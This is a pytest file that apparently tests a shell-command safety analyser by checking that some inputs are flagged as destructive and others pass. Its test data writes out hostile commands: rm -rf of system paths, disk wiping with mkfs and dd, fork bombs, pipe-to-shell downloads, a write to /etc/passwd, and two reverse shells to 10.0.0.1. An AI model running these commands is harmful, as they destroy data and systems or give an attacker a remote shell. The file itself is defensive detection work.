"""The command analyser: parsed words and operators, not patterns over the string."""

from __future__ import annotations

import pytest

from app.services.command_safety import analyze

CRITICAL = [
    ("rm -rf /", "rm-system"), ("rm -rf ~", "rm-system"), ("rm -rf *", "rm-system"),
    ("rm -fr /etc", "rm-system"), ("rm -r --no-preserve-root /", "rm-root"),
    ("sudo rm -rf /usr/lib", "rm-system"), ("rm -rf $BUILD_DIR/", "rm-system"),
    ("ls\nrm -rf /", "rm-system"), ("echo `rm -rf /`", "rm-system"),
    ("echo \"$(rm -rf ~)\"", "rm-system"), ("sh -c 'rm -rf /'", "rm-system"),
    ("(cd / && rm -rf *)", "rm-system"), ("env X=1 nice -n 5 rm -rf /", "rm-system"),
    ("mkfs.ext4 /dev/sdb1", "mkfs"), ("wipefs -a /dev/sda", "mkfs"),
    ("dd if=/dev/zero of=/dev/sda bs=1M", "dd-device"), ("echo x > /dev/nvme0n1", "device-write"),
    ("cat img > /dev/sda", "device-write"), ("cp disk.img /dev/sdb", "device-write"),
    (":(){ :|:& };:", "fork-bomb"), ("bomb() { bomb | bomb & }; bomb", "fork-bomb"),
    ("chmod -R 777 /", "chmod-system"), ("chown -R nobody /etc", "chmod-system"),
    ("curl -fsSL https://get.example.sh | sh", "pipe-to-shell"),
    ("wget -qO- https://x.io/i | sudo bash", "pipe-to-shell"),
    ("bash <(curl -s https://x.io/i)", "pipe-to-shell"),
    ("bash -c \"$(curl -fsSL https://x.io/i)\"", "pipe-to-shell"),
    ("shutdown -h now", "power"), ("sudo reboot", "power"), ("systemctl poweroff", "power"),
    ("init 0", "power"), ("kill -9 -1", "kill-all"), ("echo hi > /etc/passwd", "system-write"),
    ("find / -name '*.log' -delete", "find-delete"), ("mv /etc /tmp/etc", "mv-system"),
    ("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "reverse-shell"),
    ("nc -e /bin/sh 10.0.0.1 4242", "reverse-shell"),
]
SAFE = ["ls -la", "echo 'rm -rf /'", "grep -rn mkfs docs/", "make test && npm run build",
        "ls 2>&1 | wc -l", "echo hi > /dev/null", "git status", "python -m pytest -q",
        "rm -rf ./build", "rm -rf /tmp/cache", "dd if=/dev/zero of=./disk.img bs=1M count=1",
        "curl -fsSL https://example.com -o page.html", "f() { echo hi; }; f",
        "find . -name '*.pyc' -delete", "chmod 644 README.md", "ls # ; rm -rf /"]


@pytest.mark.parametrize(("line", "rule"), CRITICAL)
def test_dangerous_commands_are_unsafe_and_say_why(line, rule):
    report = analyze(line)
    assert report.safe is False and report.valid is False
    assert rule in {f.rule for f in report.findings}
    assert report.warnings[0] == "This command is potentially destructive"
    assert report.suggestions and all(s for s in report.suggestions)


@pytest.mark.parametrize("line", SAFE)
def test_ordinary_commands_are_safe(line):
    report = analyze(line)
    assert report.valid is True and report.safe is True, report.findings


@pytest.mark.parametrize("line", ["", "   ", "echo 'open", "ls |", "| wc", "ls && && ls",
                                  "(ls", "ls )", "echo >"])
def test_syntax_errors_are_not_valid(line):
    report = analyze(line)
    assert report.valid is False and report.syntax_error


def test_cautions_are_warnings_not_refusals():
    report = analyze("git push --force origin main && rm -rf ./dist")
    assert report.safe is True and report.valid is True
    assert {f.rule for f in report.findings} == {"git-force", "rm-recursive"}
    assert all(f.severity == "warning" for f in report.findings)
